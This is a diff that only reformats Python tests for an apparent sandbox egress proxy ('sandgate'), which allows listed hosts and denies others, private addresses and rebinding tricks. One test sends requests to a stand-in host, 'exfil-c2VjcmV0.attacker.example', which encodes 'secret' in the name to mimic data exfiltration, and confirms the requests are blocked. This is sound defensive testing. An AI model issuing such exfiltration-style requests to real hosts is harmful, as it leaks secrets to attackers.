@@ -68,8 +68,10 @@ def run_proxy(sock_dir) -> Iterator:
 
 
 def get_request(host: str, port: int, path: str = "/x", extra: str = "") -> bytes:
-    return (f"GET http://{host}:{port}{path} HTTP/1.1\r\nHost: {host}:{port}\r\n"
-            f"Proxy-Connection: keep-alive\r\nUser-Agent: sandgate-test\r\n{extra}\r\n").encode()
+    return (
+        f"GET http://{host}:{port}{path} HTTP/1.1\r\nHost: {host}:{port}\r\n"
+        f"Proxy-Connection: keep-alive\r\nUser-Agent: sandgate-test\r\n{extra}\r\n"
+    ).encode()
 
 
 def connect_request(host: str, port: int) -> bytes:
@@ -91,17 +93,29 @@ def test_http_through_tcp_endpoint_reaches_allowed_loopback_server(run_proxy, ht
     assert headers["host"] == f"127.0.0.1:{http_server.port}"
     assert headers["connection"] == "close"
     assert headers["user-agent"] == "sandgate-test"
-    assert heard == proxy.decisions() == [ProxyDecision(
-        "127.0.0.1", http_server.port, True, f"network.allow_hosts:127.0.0.1:{http_server.port}",
-        f"127.0.0.1:{http_server.port} is allowed by network.allow_hosts '127.0.0.1:{http_server.port}'",
-        "127.0.0.1")]
+    assert (
+        heard
+        == proxy.decisions()
+        == [
+            ProxyDecision(
+                "127.0.0.1",
+                http_server.port,
+                True,
+                f"network.allow_hosts:127.0.0.1:{http_server.port}",
+                f"127.0.0.1:{http_server.port} is allowed by network.allow_hosts '127.0.0.1:{http_server.port}'",
+                "127.0.0.1",
+            )
+        ]
+    )
 
 
 def test_http_request_body_is_forwarded(run_proxy, http_server):
     proxy, _ = run_proxy(NetworkPolicy(allow_hosts=(f"127.0.0.1:{http_server.port}",)))
     payload = b"x" * 100_000
-    request = (f"POST http://127.0.0.1:{http_server.port}/up HTTP/1.1\r\nHost: 127.0.0.1\r\n"
-               f"Content-Length: {len(payload)}\r\n\r\n").encode() + payload
+    request = (
+        f"POST http://127.0.0.1:{http_server.port}/up HTTP/1.1\r\nHost: 127.0.0.1\r\n"
+        f"Content-Length: {len(payload)}\r\n\r\n"
+    ).encode() + payload
     response = exchange(connect_unix(proxy.endpoints.unix_path), request)
     assert status_of(response) == 200
     assert body_of(response) == b"got " + payload
@@ -120,7 +134,9 @@ def test_connect_tunnel_through_unix_socket_reaches_echo_server(run_proxy, echo_
         sock.sendall(b"last words")
         sock.shutdown(socket.SHUT_WR)  # a half-close still gets the rest of the answer
         assert read_all(sock) == b"last words"
-    assert [(d.host, d.port, d.allowed, d.address) for d in heard] == [("127.0.0.1", echo_server.port, True, "127.0.0.1")]
+    assert [(d.host, d.port, d.allowed, d.address) for d in heard] == [
+        ("127.0.0.1", echo_server.port, True, "127.0.0.1")
+    ]
 
 
 def test_real_http_clients_work_through_the_proxy(run_proxy, http_server):
@@ -159,7 +175,8 @@ def test_another_port_on_an_allowed_host_is_denied_and_recorded(run_proxy, echo_
     assert f"not {echo_server.port}".encode() in body_of(response)
     assert echo_server.accepted == 0
     assert [(d.host, d.port, d.allowed, d.rule) for d in heard] == [
-        ("127.0.0.1", echo_server.port, False, rules.RULE_PORT)]
+        ("127.0.0.1", echo_server.port, False, rules.RULE_PORT)
+    ]
 
 
 def test_a_bare_host_entry_allows_ports_80_and_443_only(run_proxy, http_server):
@@ -173,8 +190,10 @@ def test_a_bare_host_entry_allows_ports_80_and_443_only(run_proxy, http_server):
 def test_another_host_is_denied_without_a_lookup(run_proxy, http_server):
     resolver = Resolver({"exfil-c2VjcmV0.attacker.example": ["93.184.215.14"]})
     proxy, heard = run_proxy(NetworkPolicy(allow_hosts=(f"127.0.0.1:{http_server.port}",)), resolver=resolver)
-    for request in (get_request("exfil-c2VjcmV0.attacker.example", 80),
-                    connect_request("exfil-c2VjcmV0.attacker.example", 443)):
+    for request in (
+        get_request("exfil-c2VjcmV0.attacker.example", 80),
+        connect_request("exfil-c2VjcmV0.attacker.example", 443),
+    ):
         response = exchange(connect_tcp(proxy.endpoints.tcp_port), request)
         assert status_of(response) == 403
         assert header_of(response, "X-Sandgate-Rule") == rules.RULE_DEFAULT_DENY
@@ -182,7 +201,9 @@ def test_another_host_is_denied_without_a_lookup(run_proxy, http_server):
     assert resolver.calls == []
     # Recorded under the normalised (lower-case) name.
     assert [(d.host, d.port, d.allowed) for d in heard] == [
-        ("exfil-c2vjcmv0.attacker.example", 80, False), ("exfil-c2vjcmv0.attacker.example", 443, False)]
+        ("exfil-c2vjcmv0.attacker.example", 80, False),
+        ("exfil-c2vjcmv0.attacker.example", 443, False),
+    ]
 
 
 def test_no_allowed_hosts_means_no_network(run_proxy, http_server):
@@ -209,15 +230,19 @@ def test_public_looking_name_resolving_to_loopback_is_refused(run_proxy, http_se
     resolver = Resolver({"public-looking.example": ["127.0.0.1"]})
     proxy, heard = run_proxy(
         NetworkPolicy(allow_hosts=(f"public-looking.example:{http_server.port}", f"*.example:{http_server.port}")),
-        resolver=resolver)
-    for request in (get_request("public-looking.example", http_server.port),
-                    connect_request("public-looking.example", http_server.port)):
+        resolver=resolver,
+    )
+    for request in (
+        get_request("public-looking.example", http_server.port),
+        connect_request("public-looking.example", http_server.port),
+    ):
         response = exchange(connect_tcp(proxy.endpoints.tcp_port), request)
         assert status_of(response) == 403
         assert header_of(response, "X-Sandgate-Rule") == rules.RULE_ADDRESS
     assert http_server.seen == []
     assert [(d.host, d.port, d.allowed, d.rule, d.address) for d in heard] == [
-        ("public-looking.example", http_server.port, False, rules.RULE_ADDRESS, "127.0.0.1")] * 2
+        ("public-looking.example", http_server.port, False, rules.RULE_ADDRESS, "127.0.0.1")
+    ] * 2
     assert "loopback" in heard[0].reason
 
 
@@ -227,7 +252,10 @@ def test_a_wildcard_match_resolving_to_a_private_address_is_refused(run_proxy):
     for host in ("db.corp.example", "meta.corp.example"):
         response = exchange(connect_tcp(proxy.endpoints.tcp_port), connect_request(host, 443))
         assert status_of(response) == 403
-    assert [(d.rule, d.address) for d in heard] == [(rules.RULE_ADDRESS, "10.1.2.3"), (rules.RULE_ADDRESS, "169.254.169.254")]
+    assert [(d.rule, d.address) for d in heard] == [
+        (rules.RULE_ADDRESS, "10.1.2.3"),
+        (rules.RULE_ADDRESS, "169.254.169.254"),
+    ]
     assert "private" in heard[0].reason and "link-local" in heard[1].reason
 
 
@@ -267,7 +295,11 @@ def test_an_unresolvable_allowed_name_is_denied_and_recorded(run_proxy):
     response = exchange(connect_tcp(proxy.endpoints.tcp_port), connect_request("nowhere.example", 443))
     assert status_of(response) == 403
     assert (heard[0].host, heard[0].port, heard[0].allowed, heard[0].rule) == (
-        "nowhere.example", 443, False, rules.RULE_UNRESOLVED)
+        "nowhere.example",
+        443,
+        False,
+        rules.RULE_UNRESOLVED,
+    )
 
 
 def test_allowed_but_unreachable_gives_502(run_proxy):
@@ -391,8 +423,11 @@ def test_a_failing_callback_does_not_break_the_proxy(sock_dir, http_server):
     def explode(decision: ProxyDecision) -> None:
         raise RuntimeError("callback bug")
 
-    with EgressProxy(NetworkPolicy(allow_hosts=(f"127.0.0.1:{http_server.port}",)), on_decision=explode,
-                     unix_path=sock_dir / "p.sock") as proxy:
+    with EgressProxy(
+        NetworkPolicy(allow_hosts=(f"127.0.0.1:{http_server.port}",)),
+        on_decision=explode,
+        unix_path=sock_dir / "p.sock",
+    ) as proxy:
         response = exchange(connect_tcp(proxy.endpoints.tcp_port), get_request("127.0.0.1", http_server.port))
         assert status_of(response) == 200
         assert len(proxy.decisions()) == 1
@@ -420,8 +455,11 @@ def test_concurrent_clients_are_served_and_each_decision_recorded(run_proxy, htt
 
 
 def test_forwarder_relays_loopback_tcp_to_the_proxy_socket(sock_dir, http_server, echo_server):
-    with EgressProxy(NetworkPolicy(allow_hosts=(f"127.0.0.1:{http_server.port}", f"127.0.0.1:{echo_server.port}")),
-                     unix_path=sock_dir / "p.sock", tcp_port=None) as proxy:
+    with EgressProxy(
+        NetworkPolicy(allow_hosts=(f"127.0.0.1:{http_server.port}", f"127.0.0.1:{echo_server.port}")),
+        unix_path=sock_dir / "p.sock",
+        tcp_port=None,
+    ) as proxy:
         listener, port = start_forwarder(proxy.endpoints.unix_path, port=0)
         try:
             response = exchange(connect_tcp(port), get_request("127.0.0.1", http_server.port, "/fwd"))
